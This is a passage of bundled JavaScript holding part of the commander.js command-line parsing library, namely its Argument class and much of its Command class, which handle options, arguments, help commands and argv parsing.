   * @param {string} name
   * @param {string} [description]
   */

  constructor(name, description) {
    this.description = description || '';
    this.variadic = false;
    this.parseArg = undefined;
    this.defaultValue = undefined;
    this.defaultValueDescription = undefined;
    this.argChoices = undefined;

    switch (name[0]) {
      case '<': // e.g. <required>
        this.required = true;
        this._name = name.slice(1, -1);
        break;
      case '[': // e.g. [optional]
        this.required = false;
        this._name = name.slice(1, -1);
        break;
      default:
        this.required = true;
        this._name = name;
        break;
    }

    if (this._name.endsWith('...')) {
      this.variadic = true;
      this._name = this._name.slice(0, -3);
    }
  }

  /**
   * Return argument name.
   *
   * @return {string}
   */

  name() {
    return this._name;
  }

  /**
   * @package
   */

  _collectValue(value, previous) {
    if (previous === this.defaultValue || !Array.isArray(previous)) {
      return [value];
    }

    previous.push(value);
    return previous;
  }

  /**
   * Set the default value, and optionally supply the description to be displayed in the help.
   *
   * @param {*} value
   * @param {string} [description]
   * @return {Argument}
   */

  default(value, description) {
    this.defaultValue = value;
    this.defaultValueDescription = description;
    return this;
  }

  /**
   * Set the custom handler for processing CLI command arguments into argument values.
   *
   * @param {Function} [fn]
   * @return {Argument}
   */

  argParser(fn) {
    this.parseArg = fn;
    return this;
  }

  /**
   * Only allow argument value to be one of choices.
   *
   * @param {string[]} values
   * @return {Argument}
   */

  choices(values) {
    this.argChoices = values.slice();
    this.parseArg = (arg, previous) => {
      if (!this.argChoices.includes(arg)) {
        throw new InvalidArgumentError(
          `Allowed choices are ${this.argChoices.join(', ')}.`,
        );
      }
      if (this.variadic) {
        return this._collectValue(arg, previous);
      }
      return arg;
    };
    return this;
  }

  /**
   * Make argument required.
   *
   * @returns {Argument}
   */
  argRequired() {
    this.required = true;
    return this;
  }

  /**
   * Make argument optional.
   *
   * @returns {Argument}
   */
  argOptional() {
    this.required = false;
    return this;
  }
}

/**
 * Takes an argument and returns its human readable equivalent for help usage.
 *
 * @param {Argument} arg
 * @return {string}
 * @private
 */

function humanReadableArgName(arg) {
  const nameOutput = arg.name() + (arg.variadic === true ? '...' : '');

  return arg.required ? '<' + nameOutput + '>' : '[' + nameOutput + ']';
}

exports.Argument = Argument;
exports.humanReadableArgName = humanReadableArgName;


/***/ }),

/***/ 4348:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const EventEmitter = (__nccwpck_require__(8474).EventEmitter);
const childProcess = __nccwpck_require__(1421);
const path = __nccwpck_require__(6760);
const fs = __nccwpck_require__(3024);
const process = __nccwpck_require__(1708);

const { Argument, humanReadableArgName } = __nccwpck_require__(9154);
const { CommanderError } = __nccwpck_require__(1135);
const { Help, stripColor } = __nccwpck_require__(9754);
const { Option, DualOptions } = __nccwpck_require__(5240);
const { suggestSimilar } = __nccwpck_require__(5030);

class Command extends EventEmitter {
  /**
   * Initialize a new `Command`.
   *
   * @param {string} [name]
   */

  constructor(name) {
    super();
    /** @type {Command[]} */
    this.commands = [];
    /** @type {Option[]} */
    this.options = [];
    this.parent = null;
    this._allowUnknownOption = false;
    this._allowExcessArguments = false;
    /** @type {Argument[]} */
    this.registeredArguments = [];
    this._args = this.registeredArguments; // deprecated old name
    /** @type {string[]} */
    this.args = []; // cli args with options removed
    this.rawArgs = [];
    this.processedArgs = []; // like .args but after custom processing and collecting variadic
    this._scriptPath = null;
    this._name = name || '';
    this._optionValues = {};
    this._optionValueSources = {}; // default, env, cli etc
    this._storeOptionsAsProperties = false;
    this._actionHandler = null;
    this._executableHandler = false;
    this._executableFile = null; // custom name for executable
    this._executableDir = null; // custom search directory for subcommands
    this._defaultCommandName = null;
    this._exitCallback = null;
    this._aliases = [];
    this._combineFlagAndOptionalValue = true;
    this._description = '';
    this._summary = '';
    this._argsDescription = undefined; // legacy
    this._enablePositionalOptions = false;
    this._passThroughOptions = false;
    this._lifeCycleHooks = {}; // a hash of arrays
    /** @type {(boolean | string)} */
    this._showHelpAfterError = false;
    this._showSuggestionAfterError = true;
    this._savedState = null; // used in save/restoreStateBeforeParse

    // see configureOutput() for docs
    this._outputConfiguration = {
      writeOut: (str) => process.stdout.write(str),
      writeErr: (str) => process.stderr.write(str),
      outputError: (str, write) => write(str),
      getOutHelpWidth: () =>
        process.stdout.isTTY ? process.stdout.columns : undefined,
      getErrHelpWidth: () =>
        process.stderr.isTTY ? process.stderr.columns : undefined,
      getOutHasColors: () =>
        useColor() ?? (process.stdout.isTTY && process.stdout.hasColors?.()),
      getErrHasColors: () =>
        useColor() ?? (process.stderr.isTTY && process.stderr.hasColors?.()),
      stripColor: (str) => stripColor(str),
    };

    this._hidden = false;
    /** @type {(Option | null | undefined)} */
    this._helpOption = undefined; // Lazy created on demand. May be null if help option is disabled.
    this._addImplicitHelpCommand = undefined; // undecided whether true or false yet, not inherited
    /** @type {Command} */
    this._helpCommand = undefined; // lazy initialised, inherited
    this._helpConfiguration = {};
    /** @type {string | undefined} */
    this._helpGroupHeading = undefined; // soft initialised when added to parent
    /** @type {string | undefined} */
    this._defaultCommandGroup = undefined;
    /** @type {string | undefined} */
    this._defaultOptionGroup = undefined;
  }

  /**
   * Copy settings that are useful to have in common across root command and subcommands.
   *
   * (Used internally when adding a command using `.command()` so subcommands inherit parent settings.)
   *
   * @param {Command} sourceCommand
   * @return {Command} `this` command for chaining
   */
  copyInheritedSettings(sourceCommand) {
    this._outputConfiguration = sourceCommand._outputConfiguration;
    this._helpOption = sourceCommand._helpOption;
    this._helpCommand = sourceCommand._helpCommand;
    this._helpConfiguration = sourceCommand._helpConfiguration;
    this._exitCallback = sourceCommand._exitCallback;
    this._storeOptionsAsProperties = sourceCommand._storeOptionsAsProperties;
    this._combineFlagAndOptionalValue =
      sourceCommand._combineFlagAndOptionalValue;
    this._allowExcessArguments = sourceCommand._allowExcessArguments;
    this._enablePositionalOptions = sourceCommand._enablePositionalOptions;
    this._showHelpAfterError = sourceCommand._showHelpAfterError;
    this._showSuggestionAfterError = sourceCommand._showSuggestionAfterError;

    return this;
  }

  /**
   * @returns {Command[]}
   * @private
   */

  _getCommandAndAncestors() {
    const result = [];
    // eslint-disable-next-line @typescript-eslint/no-this-alias
    for (let command = this; command; command = command.parent) {
      result.push(command);
    }
    return result;
  }

  /**
   * Define a command.
   *
   * There are two styles of command: pay attention to where to put the description.
   *
   * @example
   * // Command implemented using action handler (description is supplied separately to `.command`)
   * program
   *   .command('clone <source> [destination]')
   *   .description('clone a repository into a newly created directory')
   *   .action((source, destination) => {
   *     console.log('clone command called');
   *   });
   *
   * // Command implemented using separate executable file (description is second parameter to `.command`)
   * program
   *   .command('start <service>', 'start named service')
   *   .command('stop [service]', 'stop named service, or all if no name supplied');
   *
   * @param {string} nameAndArgs - command name and arguments, args are `<required>` or `[optional]` and last may also be `variadic...`
   * @param {(object | string)} [actionOptsOrExecDesc] - configuration options (for action), or description (for executable)
   * @param {object} [execOpts] - configuration options (for executable)
   * @return {Command} returns new command for action handler, or `this` for executable command
   */

  command(nameAndArgs, actionOptsOrExecDesc, execOpts) {
    let desc = actionOptsOrExecDesc;
    let opts = execOpts;
    if (typeof desc === 'object' && desc !== null) {
      opts = desc;
      desc = null;
    }
    opts = opts || {};
    const [, name, args] = nameAndArgs.match(/([^ ]+) *(.*)/);

    const cmd = this.createCommand(name);
    if (desc) {
      cmd.description(desc);
      cmd._executableHandler = true;
    }
    if (opts.isDefault) this._defaultCommandName = cmd._name;
    cmd._hidden = !!(opts.noHelp || opts.hidden); // noHelp is deprecated old name for hidden
    cmd._executableFile = opts.executableFile || null; // Custom name for executable file, set missing to null to match constructor
    if (args) cmd.arguments(args);
    this._registerCommand(cmd);
    cmd.parent = this;
    cmd.copyInheritedSettings(this);

    if (desc) return this;
    return cmd;
  }

  /**
   * Factory routine to create a new unattached command.
   *
   * See .command() for creating an attached subcommand, which uses this routine to
   * create the command. You can override createCommand to customise subcommands.
   *
   * @param {string} [name]
   * @return {Command} new command
   */

  createCommand(name) {
    return new Command(name);
  }

  /**
   * You can customise the help with a subclass of Help by overriding createHelp,
   * or by overriding Help properties using configureHelp().
   *
   * @return {Help}
   */

  createHelp() {
    return Object.assign(new Help(), this.configureHelp());
  }

  /**
   * You can customise the help by overriding Help properties using configureHelp(),
   * or with a subclass of Help by overriding createHelp().
   *
   * @param {object} [configuration] - configuration options
   * @return {(Command | object)} `this` command for chaining, or stored configuration
   */

  configureHelp(configuration) {
    if (configuration === undefined) return this._helpConfiguration;

    this._helpConfiguration = configuration;
    return this;
  }

  /**
   * The default output goes to stdout and stderr. You can customise this for special
   * applications. You can also customise the display of errors by overriding outputError.
   *
   * The configuration properties are all functions:
   *
   *     // change how output being written, defaults to stdout and stderr
   *     writeOut(str)
   *     writeErr(str)
   *     // change how output being written for errors, defaults to writeErr
   *     outputError(str, write) // used for displaying errors and not used for displaying help
   *     // specify width for wrapping help
   *     getOutHelpWidth()
   *     getErrHelpWidth()
   *     // color support, currently only used with Help
   *     getOutHasColors()
   *     getErrHasColors()
   *     stripColor() // used to remove ANSI escape codes if output does not have colors
   *
   * @param {object} [configuration] - configuration options
   * @return {(Command | object)} `this` command for chaining, or stored configuration
   */

  configureOutput(configuration) {
    if (configuration === undefined) return this._outputConfiguration;

    this._outputConfiguration = {
      ...this._outputConfiguration,
      ...configuration,
    };
    return this;
  }

  /**
   * Display the help or a custom message after an error occurs.
   *
   * @param {(boolean|string)} [displayHelp]
   * @return {Command} `this` command for chaining
   */
  showHelpAfterError(displayHelp = true) {
    if (typeof displayHelp !== 'string') displayHelp = !!displayHelp;
    this._showHelpAfterError = displayHelp;
    return this;
  }

  /**
   * Display suggestion of similar commands for unknown commands, or options for unknown options.
   *
   * @param {boolean} [displaySuggestion]
   * @return {Command} `this` command for chaining
   */
  showSuggestionAfterError(displaySuggestion = true) {
    this._showSuggestionAfterError = !!displaySuggestion;
    return this;
  }

  /**
   * Add a prepared subcommand.
   *
   * See .command() for creating an attached subcommand which inherits settings from its parent.
   *
   * @param {Command} cmd - new subcommand
   * @param {object} [opts] - configuration options
   * @return {Command} `this` command for chaining
   */

  addCommand(cmd, opts) {
    if (!cmd._name) {
      throw new Error(`Command passed to .addCommand() must have a name
- specify the name in Command constructor or using .name()`);
    }

    opts = opts || {};
    if (opts.isDefault) this._defaultCommandName = cmd._name;
    if (opts.noHelp || opts.hidden) cmd._hidden = true; // modifying passed command due to existing implementation

    this._registerCommand(cmd);
    cmd.parent = this;
    cmd._checkForBrokenPassThrough();

    return this;
  }

  /**
   * Factory routine to create a new unattached argument.
   *
   * See .argument() for creating an attached argument, which uses this routine to
   * create the argument. You can override createArgument to return a custom argument.
   *
   * @param {string} name
   * @param {string} [description]
   * @return {Argument} new argument
   */

  createArgument(name, description) {
    return new Argument(name, description);
  }

  /**
   * Define argument syntax for command.
   *
   * The default is that the argument is required, and you can explicitly
   * indicate this with <> around the name. Put [] around the name for an optional argument.
   *
   * @example
   * program.argument('<input-file>');
   * program.argument('[output-file]');
   *
   * @param {string} name
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom argument processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */
  argument(name, description, parseArg, defaultValue) {
    const argument = this.createArgument(name, description);
    if (typeof parseArg === 'function') {
      argument.default(defaultValue).argParser(parseArg);
    } else {
      argument.default(parseArg);
    }
    this.addArgument(argument);
    return this;
  }

  /**
   * Define argument syntax for command, adding multiple at once (without descriptions).
   *
   * See also .argument().
   *
   * @example
   * program.arguments('<cmd> [env]');
   *
   * @param {string} names
   * @return {Command} `this` command for chaining
   */

  arguments(names) {
    names
      .trim()
      .split(/ +/)
      .forEach((detail) => {
        this.argument(detail);
      });
    return this;
  }

  /**
   * Define argument syntax for command, adding a prepared argument.
   *
   * @param {Argument} argument
   * @return {Command} `this` command for chaining
   */
  addArgument(argument) {
    const previousArgument = this.registeredArguments.slice(-1)[0];
    if (previousArgument?.variadic) {
      throw new Error(
        `only the last argument can be variadic '${previousArgument.name()}'`,
      );
    }
    if (
      argument.required &&
      argument.defaultValue !== undefined &&
      argument.parseArg === undefined
    ) {
      throw new Error(
        `a default value for a required argument is never used: '${argument.name()}'`,
      );
    }
    this.registeredArguments.push(argument);
    return this;
  }

  /**
   * Customise or override default help command. By default a help command is automatically added if your command has subcommands.
   *
   * @example
   *    program.helpCommand('help [cmd]');
   *    program.helpCommand('help [cmd]', 'show help');
   *    program.helpCommand(false); // suppress default help command
   *    program.helpCommand(true); // add help command even if no subcommands
   *
   * @param {string|boolean} enableOrNameAndArgs - enable with custom name and/or arguments, or boolean to override whether added
   * @param {string} [description] - custom description
   * @return {Command} `this` command for chaining
   */

  helpCommand(enableOrNameAndArgs, description) {
    if (typeof enableOrNameAndArgs === 'boolean') {
      this._addImplicitHelpCommand = enableOrNameAndArgs;
      if (enableOrNameAndArgs && this._defaultCommandGroup) {
        // make the command to store the group
        this._initCommandGroup(this._getHelpCommand());
      }
      return this;
    }

    const nameAndArgs = enableOrNameAndArgs ?? 'help [command]';
    const [, helpName, helpArgs] = nameAndArgs.match(/([^ ]+) *(.*)/);
    const helpDescription = description ?? 'display help for command';

    const helpCommand = this.createCommand(helpName);
    helpCommand.helpOption(false);
    if (helpArgs) helpCommand.arguments(helpArgs);
    if (helpDescription) helpCommand.description(helpDescription);

    this._addImplicitHelpCommand = true;
    this._helpCommand = helpCommand;
    // init group unless lazy create
    if (enableOrNameAndArgs || description) this._initCommandGroup(helpCommand);

    return this;
  }

  /**
   * Add prepared custom help command.
   *
   * @param {(Command|string|boolean)} helpCommand - custom help command, or deprecated enableOrNameAndArgs as for `.helpCommand()`
   * @param {string} [deprecatedDescription] - deprecated custom description used with custom name only
   * @return {Command} `this` command for chaining
   */
  addHelpCommand(helpCommand, deprecatedDescription) {
    // If not passed an object, call through to helpCommand for backwards compatibility,
    // as addHelpCommand was originally used like helpCommand is now.
    if (typeof helpCommand !== 'object') {
      this.helpCommand(helpCommand, deprecatedDescription);
      return this;
    }

    this._addImplicitHelpCommand = true;
    this._helpCommand = helpCommand;
    this._initCommandGroup(helpCommand);
    return this;
  }

  /**
   * Lazy create help command.
   *
   * @return {(Command|null)}
   * @package
   */
  _getHelpCommand() {
    const hasImplicitHelpCommand =
      this._addImplicitHelpCommand ??
      (this.commands.length &&
        !this._actionHandler &&
        !this._findCommand('help'));

    if (hasImplicitHelpCommand) {
      if (this._helpCommand === undefined) {
        this.helpCommand(undefined, undefined); // use default name and description
      }
      return this._helpCommand;
    }
    return null;
  }

  /**
   * Add hook for life cycle event.
   *
   * @param {string} event
   * @param {Function} listener
   * @return {Command} `this` command for chaining
   */

  hook(event, listener) {
    const allowedValues = ['preSubcommand', 'preAction', 'postAction'];
    if (!allowedValues.includes(event)) {
      throw new Error(`Unexpected value for event passed to hook : '${event}'.
Expecting one of '${allowedValues.join("', '")}'`);
    }
    if (this._lifeCycleHooks[event]) {
      this._lifeCycleHooks[event].push(listener);
    } else {
      this._lifeCycleHooks[event] = [listener];
    }
    return this;
  }

  /**
   * Register callback to use as replacement for calling process.exit.
   *
   * @param {Function} [fn] optional callback which will be passed a CommanderError, defaults to throwing
   * @return {Command} `this` command for chaining
   */

  exitOverride(fn) {
    if (fn) {
      this._exitCallback = fn;
    } else {
      this._exitCallback = (err) => {
        if (err.code !== 'commander.executeSubCommandAsync') {
          throw err;
        } else {
          // Async callback from spawn events, not useful to throw.
        }
      };
    }
    return this;
  }

  /**
   * Call process.exit, and _exitCallback if defined.
   *
   * @param {number} exitCode exit code for using with process.exit
   * @param {string} code an id string representing the error
   * @param {string} message human-readable description of the error
   * @return never
   * @private
   */

  _exit(exitCode, code, message) {
    if (this._exitCallback) {
      this._exitCallback(new CommanderError(exitCode, code, message));
      // Expecting this line is not reached.
    }
    process.exit(exitCode);
  }

  /**
   * Register callback `fn` for the command.
   *
   * @example
   * program
   *   .command('serve')
   *   .description('start service')
   *   .action(function() {
   *      // do work here
   *   });
   *
   * @param {Function} fn
   * @return {Command} `this` command for chaining
   */

  action(fn) {
    const listener = (args) => {
      // The .action callback takes an extra parameter which is the command or options.
      const expectedArgsCount = this.registeredArguments.length;
      const actionArgs = args.slice(0, expectedArgsCount);
      if (this._storeOptionsAsProperties) {
        actionArgs[expectedArgsCount] = this; // backwards compatible "options"
      } else {
        actionArgs[expectedArgsCount] = this.opts();
      }
      actionArgs.push(this);

      return fn.apply(this, actionArgs);
    };
    this._actionHandler = listener;
    return this;
  }

  /**
   * Factory routine to create a new unattached option.
   *
   * See .option() for creating an attached option, which uses this routine to
   * create the option. You can override createOption to return a custom option.
   *
   * @param {string} flags
   * @param {string} [description]
   * @return {Option} new option
   */

  createOption(flags, description) {
    return new Option(flags, description);
  }

  /**
   * Wrap parseArgs to catch 'commander.invalidArgument'.
   *
   * @param {(Option | Argument)} target
   * @param {string} value
   * @param {*} previous
   * @param {string} invalidArgumentMessage
   * @private
   */

  _callParseArg(target, value, previous, invalidArgumentMessage) {
    try {
      return target.parseArg(value, previous);
    } catch (err) {
      if (err.code === 'commander.invalidArgument') {
        const message = `${invalidArgumentMessage} ${err.message}`;
        this.error(message, { exitCode: err.exitCode, code: err.code });
      }
      throw err;
    }
  }

  /**
   * Check for option flag conflicts.
   * Register option if no conflicts found, or throw on conflict.
   *
   * @param {Option} option
   * @private
   */

  _registerOption(option) {
    const matchingOption =
      (option.short && this._findOption(option.short)) ||
      (option.long && this._findOption(option.long));
    if (matchingOption) {
      const matchingFlag =
        option.long && this._findOption(option.long)
          ? option.long
          : option.short;
      throw new Error(`Cannot add option '${option.flags}'${this._name && ` to command '${this._name}'`} due to conflicting flag '${matchingFlag}'
-  already used by option '${matchingOption.flags}'`);
    }

    this._initOptionGroup(option);
    this.options.push(option);
  }

  /**
   * Check for command name and alias conflicts with existing commands.
   * Register command if no conflicts found, or throw on conflict.
   *
   * @param {Command} command
   * @private
   */

  _registerCommand(command) {
    const knownBy = (cmd) => {
      return [cmd.name()].concat(cmd.aliases());
    };

    const alreadyUsed = knownBy(command).find((name) =>
      this._findCommand(name),
    );
    if (alreadyUsed) {
      const existingCmd = knownBy(this._findCommand(alreadyUsed)).join('|');
      const newCmd = knownBy(command).join('|');
      throw new Error(
        `cannot add command '${newCmd}' as already have command '${existingCmd}'`,
      );
    }

    this._initCommandGroup(command);
    this.commands.push(command);
  }

  /**
   * Add an option.
   *
   * @param {Option} option
   * @return {Command} `this` command for chaining
   */
  addOption(option) {
    this._registerOption(option);

    const oname = option.name();
    const name = option.attributeName();

    // store default value
    if (option.negate) {
      // --no-foo is special and defaults foo to true, unless a --foo option is already defined
      const positiveLongFlag = option.long.replace(/^--no-/, '--');
      if (!this._findOption(positiveLongFlag)) {
        this.setOptionValueWithSource(
          name,
          option.defaultValue === undefined ? true : option.defaultValue,
          'default',
        );
      }
    } else if (option.defaultValue !== undefined) {
      this.setOptionValueWithSource(name, option.defaultValue, 'default');
    }

    // handler for cli and env supplied values
    const handleOptionValue = (val, invalidValueMessage, valueSource) => {
      // val is null for optional option used without an optional-argument.
      // val is undefined for boolean and negated option.
      if (val == null && option.presetArg !== undefined) {
        val = option.presetArg;
      }

      // custom processing
      const oldValue = this.getOptionValue(name);
      if (val !== null && option.parseArg) {
        val = this._callParseArg(option, val, oldValue, invalidValueMessage);
      } else if (val !== null && option.variadic) {
        val = option._collectValue(val, oldValue);
      }

      // Fill-in appropriate missing values. Long winded but easy to follow.
      if (val == null) {
        if (option.negate) {
          val = false;
        } else if (option.isBoolean() || option.optional) {
          val = true;
        } else {
          val = ''; // not normal, parseArg might have failed or be a mock function for testing
        }
      }
      this.setOptionValueWithSource(name, val, valueSource);
    };

    this.on('option:' + oname, (val) => {
      const invalidValueMessage = `error: option '${option.flags}' argument '${val}' is invalid.`;
      handleOptionValue(val, invalidValueMessage, 'cli');
    });

    if (option.envVar) {
      this.on('optionEnv:' + oname, (val) => {
        const invalidValueMessage = `error: option '${option.flags}' value '${val}' from env '${option.envVar}' is invalid.`;
        handleOptionValue(val, invalidValueMessage, 'env');
      });
    }

    return this;
  }

  /**
   * Internal implementation shared by .option() and .requiredOption()
   *
   * @return {Command} `this` command for chaining
   * @private
   */
  _optionEx(config, flags, description, fn, defaultValue) {
    if (typeof flags === 'object' && flags instanceof Option) {
      throw new Error(
        'To add an Option object use addOption() instead of option() or requiredOption()',
      );
    }
    const option = this.createOption(flags, description);
    option.makeOptionMandatory(!!config.mandatory);
    if (typeof fn === 'function') {
      option.default(defaultValue).argParser(fn);
    } else if (fn instanceof RegExp) {
      // deprecated
      const regex = fn;
      fn = (val, def) => {
        const m = regex.exec(val);
        return m ? m[0] : def;
      };
      option.default(defaultValue).argParser(fn);
    } else {
      option.default(fn);
    }

    return this.addOption(option);
  }

  /**
   * Define option with `flags`, `description`, and optional argument parsing function or `defaultValue` or both.
   *
   * The `flags` string contains the short and/or long flags, separated by comma, a pipe or space. A required
   * option-argument is indicated by `<>` and an optional option-argument by `[]`.
   *
   * See the README for more details, and see also addOption() and requiredOption().
   *
   * @example
   * program
   *     .option('-p, --pepper', 'add pepper')
   *     .option('--pt, --pizza-type <TYPE>', 'type of pizza') // required option-argument
   *     .option('-c, --cheese [CHEESE]', 'add extra cheese', 'mozzarella') // optional option-argument with default
   *     .option('-t, --tip <VALUE>', 'add tip to purchase cost', parseFloat) // custom parse function
   *
   * @param {string} flags
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom option processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */

  option(flags, description, parseArg, defaultValue) {
    return this._optionEx({}, flags, description, parseArg, defaultValue);
  }

  /**
   * Add a required option which must have a value after parsing. This usually means
   * the option must be specified on the command line. (Otherwise the same as .option().)
   *
   * The `flags` string contains the short and/or long flags, separated by comma, a pipe or space.
   *
   * @param {string} flags
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom option processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */

  requiredOption(flags, description, parseArg, defaultValue) {
    return this._optionEx(
      { mandatory: true },
      flags,
      description,
      parseArg,
      defaultValue,
    );
  }

  /**
   * Alter parsing of short flags with optional values.
   *
   * @example
   * // for `.option('-f,--flag [value]'):
   * program.combineFlagAndOptionalValue(true);  // `-f80` is treated like `--flag=80`, this is the default behaviour
   * program.combineFlagAndOptionalValue(false) // `-fb` is treated like `-f -b`
   *
   * @param {boolean} [combine] - if `true` or omitted, an optional value can be specified directly after the flag.
   * @return {Command} `this` command for chaining
   */
  combineFlagAndOptionalValue(combine = true) {
    this._combineFlagAndOptionalValue = !!combine;
    return this;
  }

  /**
   * Allow unknown options on the command line.
   *
   * @param {boolean} [allowUnknown] - if `true` or omitted, no error will be thrown for unknown options.
   * @return {Command} `this` command for chaining
   */
  allowUnknownOption(allowUnknown = true) {
    this._allowUnknownOption = !!allowUnknown;
    return this;
  }

  /**
   * Allow excess command-arguments on the command line. Pass false to make excess arguments an error.
   *
   * @param {boolean} [allowExcess] - if `true` or omitted, no error will be thrown for excess arguments.
   * @return {Command} `this` command for chaining
   */
  allowExcessArguments(allowExcess = true) {
    this._allowExcessArguments = !!allowExcess;
    return this;
  }

  /**
   * Enable positional options. Positional means global options are specified before subcommands which lets
   * subcommands reuse the same option names, and also enables subcommands to turn on passThroughOptions.
   * The default behaviour is non-positional and global options may appear anywhere on the command line.
   *
   * @param {boolean} [positional]
   * @return {Command} `this` command for chaining
   */
  enablePositionalOptions(positional = true) {
    this._enablePositionalOptions = !!positional;
    return this;
  }

  /**
   * Pass through options that come after command-arguments rather than treat them as command-options,
   * so actual command-options come before command-arguments. Turning this on for a subcommand requires
   * positional options to have been enabled on the program (parent commands).
   * The default behaviour is non-positional and options may appear before or after command-arguments.
   *
   * @param {boolean} [passThrough] for unknown options.
   * @return {Command} `this` command for chaining
   */
  passThroughOptions(passThrough = true) {
    this._passThroughOptions = !!passThrough;
    this._checkForBrokenPassThrough();
    return this;
  }

  /**
   * @private
   */

  _checkForBrokenPassThrough() {
    if (
      this.parent &&
      this._passThroughOptions &&
      !this.parent._enablePositionalOptions
    ) {
      throw new Error(
        `passThroughOptions cannot be used for '${this._name}' without turning on enablePositionalOptions for parent command(s)`,
      );
    }
  }

  /**
   * Whether to store option values as properties on command object,
   * or store separately (specify false). In both cases the option values can be accessed using .opts().
   *
   * @param {boolean} [storeAsProperties=true]
   * @return {Command} `this` command for chaining
   */

  storeOptionsAsProperties(storeAsProperties = true) {
    if (this.options.length) {
      throw new Error('call .storeOptionsAsProperties() before adding options');
    }
    if (Object.keys(this._optionValues).length) {
      throw new Error(
        'call .storeOptionsAsProperties() before setting option values',
      );
    }
    this._storeOptionsAsProperties = !!storeAsProperties;
    return this;
  }

  /**
   * Retrieve option value.
   *
   * @param {string} key
   * @return {object} value
   */

  getOptionValue(key) {
    if (this._storeOptionsAsProperties) {
      return this[key];
    }
    return this._optionValues[key];
  }

  /**
   * Store option value.
   *
   * @param {string} key
   * @param {object} value
   * @return {Command} `this` command for chaining
   */

  setOptionValue(key, value) {
    return this.setOptionValueWithSource(key, value, undefined);
  }

  /**
   * Store option value and where the value came from.
   *
   * @param {string} key
   * @param {object} value
   * @param {string} source - expected values are default/config/env/cli/implied
   * @return {Command} `this` command for chaining
   */

  setOptionValueWithSource(key, value, source) {
    if (this._storeOptionsAsProperties) {
      this[key] = value;
    } else {
      this._optionValues[key] = value;
    }
    this._optionValueSources[key] = source;
    return this;
  }

  /**
   * Get source of option value.
   * Expected values are default | config | env | cli | implied
   *
   * @param {string} key
   * @return {string}
   */

  getOptionValueSource(key) {
    return this._optionValueSources[key];
  }

  /**
   * Get source of option value. See also .optsWithGlobals().
   * Expected values are default | config | env | cli | implied
   *
   * @param {string} key
   * @return {string}
   */

  getOptionValueSourceWithGlobals(key) {
    // global overwrites local, like optsWithGlobals
    let source;
    this._getCommandAndAncestors().forEach((cmd) => {
      if (cmd.getOptionValueSource(key) !== undefined) {
        source = cmd.getOptionValueSource(key);
      }
    });
    return source;
  }

  /**
   * Get user arguments from implied or explicit arguments.
   * Side-effects: set _scriptPath if args included script. Used for default program name, and subcommand searches.
   *
   * @private
   */

  _prepareUserArgs(argv, parseOptions) {
    if (argv !== undefined && !Array.isArray(argv)) {
      throw new Error('first parameter to parse must be array or undefined');
    }
    parseOptions = parseOptions || {};

    // auto-detect argument conventions if nothing supplied
    if (argv === undefined && parseOptions.from === undefined) {
      if (process.versions?.electron) {
        parseOptions.from = 'electron';
      }
      // check node specific options for scenarios where user CLI args follow executable without scriptname
      const execArgv = process.execArgv ?? [];
      if (
        execArgv.includes('-e') ||
        execArgv.includes('--eval') ||
        execArgv.includes('-p') ||
        execArgv.includes('--print')
      ) {
        parseOptions.from = 'eval'; // internal usage, not documented
      }
    }

    // default to using process.argv
    if (argv === undefined) {
      argv = process.argv;
    }
    this.rawArgs = argv.slice();

    // extract the user args and scriptPath
    let userArgs;
    switch (parseOptions.from) {
      case undefined:
      case 'node':
        this._scriptPath = argv[1];
        userArgs = argv.slice(2);
        break;
      case 'electron':
        // @ts-ignore: because defaultApp is an unknown property
        if (process.defaultApp) {
          this._scriptPath = argv[1];
          userArgs = argv.slice(2);
        } else {
          userArgs = argv.slice(1);
        }
        break;
      case 'user':
        userArgs = argv.slice(0);
        break;
      case 'eval':
        userArgs = argv.slice(1);
        break;
      default:
        throw new Error(
          `unexpected parse option { from: '${parseOptions.from}' }`,
        );
    }

    // Find default name for program from arguments.
    if (!this._name && this._scriptPath)
      this.nameFromFilename(this._scriptPath);
    this._name = this._name || 'program';

    return userArgs;
  }

  /**
   * Parse `argv`, setting options and invoking commands when defined.
   *
   * Use parseAsync instead of parse if any of your action handlers are async.
   *
   * Call with no parameters to parse `process.argv`. Detects Electron and special node options like `node --eval`. Easy mode!
   *
   * Or call with an array of strings to parse, and optionally where the user arguments start by specifying where the arguments are `from`:
   * - `'node'`: default, `argv[0]` is the application and `argv[1]` is the script being run, with user arguments after that
   * - `'electron'`: `argv[0]` is the application and `argv[1]` varies depending on whether the electron application is packaged
   * - `'user'`: just user arguments
   *
   * @example
   * program.parse(); // parse process.argv and auto-detect electron and special node flags
   * program.parse(process.argv); // assume argv[0] is app and argv[1] is script
   * program.parse(my-args, { from: 'user' }); // just user supplied arguments, nothing special about argv[0]
   *
   * @param {string[]} [argv] - optional, defaults to process.argv
   * @param {object} [parseOptions] - optionally specify style of options with from: node/user/electron
   * @param {string} [parseOptions.from] - where the args are from: 'node', 'user', 'electron'
   * @return {Command} `this` command for chaining
   */

  parse(argv, parseOptions) {
    this._prepareForParse();
    const userArgs = this._prepareUserArgs(argv, parseOptions);
    this._parseCommand([], userArgs);

    return this;
  }

  /**
   * Parse `argv`, setting options and invoking commands when defined.
   *
   * Call with no parameters to parse `process.argv`. Detects Electron and special node options like `node --eval`. Easy mode!
   *
   * Or call with an array of strings to parse, and optionally where the user arguments start by specifying where the arguments are `from`:
   * - `'node'`: default, `argv[0]` is the application and `argv[1]` is the script being run, with user arguments after that
   * - `'electron'`: `argv[0]` is the application and `argv[1]` varies depending on whether the electron application is packaged
   * - `'user'`: just user arguments
   *
   * @example
   * await program.parseAsync(); // parse process.argv and auto-detect electron and special node flags
   * await program.parseAsync(process.argv); // assume argv[0] is app and argv[1] is script
   * await program.parseAsync(my-args, { from: 'user' }); // just user supplied arguments, nothing special about argv[0]
   *
   * @param {string[]} [argv]
   * @param {object} [parseOptions]
   * @param {string} parseOptions.from - where the args are from: 'node', 'user', 'electron'
   * @return {Promise}
   */

  async parseAsync(argv, parseOptions) {
    this._prepareForParse();
    const userArgs = this._prepareUserArgs(argv, parseOptions);
    await this._parseCommand([], userArgs);

    return this;
  }

  _prepareForParse() {
    if (this._savedState === null) {
      this.saveStateBeforeParse();
    } else {
      this.restoreStateBeforeParse();
    }
  }

  /**
